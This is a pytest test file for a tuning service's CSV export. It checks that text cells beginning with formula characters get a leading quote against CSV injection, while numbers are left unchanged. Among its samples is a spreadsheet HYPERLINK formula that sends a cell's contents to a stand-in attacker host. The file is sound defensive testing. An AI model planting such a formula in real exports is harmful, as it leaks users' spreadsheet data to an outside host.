"""The CSV export never hands a spreadsheet a formula: a text cell that begins with
``= + - @``, a tab or a CR gets a leading ``'`` (OWASP's advice against CSV injection), while
numbers, negative ones included, stay numbers. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.helpers import API, study_spec
from tuneyard.api.app import create_app
from tuneyard.settings import Settings

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
CHOICES: list[Any] = [HYPERLINK, "+cmd", "-2+3", "\tlead", "\rcr", "@SUM(1)", "plain", -0.5]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def http(settings: Settings) -> Iterator[TestClient]:
    with TestClient(create_app(settings)) as c:
        yield c


def _worker_body(job: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """A worker call's body, with the attempt the job was given."""
    return {"attempt": job["attempt"], **fields}


def test_text_cells_that_a_spreadsheet_would_run_are_quoted(http: TestClient) -> None:
    spec = study_spec(
        space={
            "choice": {"type": "categorical", "choices": CHOICES},
            "neg": {"type": "float", "low": -1.0, "high": -0.5, "grid_points": 1},
        },
        sampler={"type": "grid"},
        scheduler={"type": "fifo", "min_resource": 1, "max_resource": 1},
        limits={"max_trials": len(CHOICES), "max_concurrent": len(CHOICES)},
    )
    r = http.post(f"{API}/studies", json=spec)
    assert r.status_code == 201, r.text
    sid = r.json()["id"]
    jobs = [http.post(f"{API}/studies/{sid}/next").json() for _ in CHOICES]
    assert sorted(map(repr, (j["params"]["choice"] for j in jobs))) == sorted(map(repr, CHOICES))
    for job in jobs:
        tid = job["trial_id"]
        if job["params"]["choice"] == "plain":
            body = _worker_body(job, error="@SUM(1)")
            assert http.post(f"{API}/trials/{tid}/fail", json=body).status_code == 200
        else:
            body = _worker_body(job, value=-0.25)
            assert http.post(f"{API}/trials/{tid}/complete", json=body).status_code == 200

    r = http.get(f"{API}/studies/{sid}/trials.csv")
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    trials = {t["id"]: t for t in http.get(f"{API}/studies/{sid}/trials").json()["items"]}
    assert len(rows) == len(CHOICES) == len(trials)
    for row in rows:
        t = trials[int(row["id"])]
        choice = t["params"]["choice"]
        if isinstance(choice, str):
            expected = "'" + choice if choice.startswith(FORMULA_STARTS) else choice
            assert row["param_choice"] == expected, "a formula-like text is quoted"
        else:
            assert float(row["param_choice"]) == choice == -0.5, "a number stays a number"
        assert float(row["param_neg"]) == t["params"]["neg"] < 0
        if t["state"] == "failed":
            assert "@SUM(1)" in t["reason"]
            expected = "'" + t["reason"] if t["reason"].startswith("@") else t["reason"]
            assert row["reason"] == expected
        else:
            assert float(row["value"]) == t["value"] == -0.25
        # Whatever the column, no cell begins a formula unless it is a genuine number.
        for cell in row.values():
            if cell.startswith(FORMULA_STARTS):
                float(cell)
    assert any(row["param_choice"] == "'" + HYPERLINK for row in rows)
    assert any(row["param_choice"] == "plain" for row in rows), "other text is left as it is"
